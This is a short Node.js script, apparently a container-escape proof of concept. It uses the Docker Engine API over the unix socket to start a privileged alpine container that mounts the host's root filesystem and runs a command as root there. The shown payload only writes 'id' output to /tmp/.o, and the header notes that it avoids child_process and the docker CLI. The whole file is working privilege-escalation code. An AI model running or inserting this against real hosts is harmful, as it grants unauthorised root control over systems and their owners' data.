// Runs a shell as root on the host: talks to the Docker Engine API over its
// unix socket (http.request with socketPath) to create and start a container
// that mounts / and runs sh -c there; no child_process, no docker CLI.
'use strict';

const http = require('http');

function api(method, path, body) {
  return new Promise((resolve, reject) => {
    const req = http.request(
      { socketPath: '/var/run/docker.sock', path, method, headers: { 'content-type': 'application/json' } },
      (res) => {
        let data = '';
        res.on('data', (d) => (data += d));
        res.on('end', () => resolve(data ? JSON.parse(data) : {}));
      }
    );
    req.on('error', reject);
    req.end(body ? JSON.stringify(body) : undefined);
  });
}

async function main() {
  const created = await api('POST', '/containers/create', {
    Image: 'alpine',
    Cmd: ['sh', '-c', 'chroot /host sh -c "id > /tmp/.o"'],
    HostConfig: { Binds: ['/:/host'], Privileged: true },
  });
  await api('POST', `/containers/${created.Id}/start`);
}

main().catch((e) => console.error(e.message));
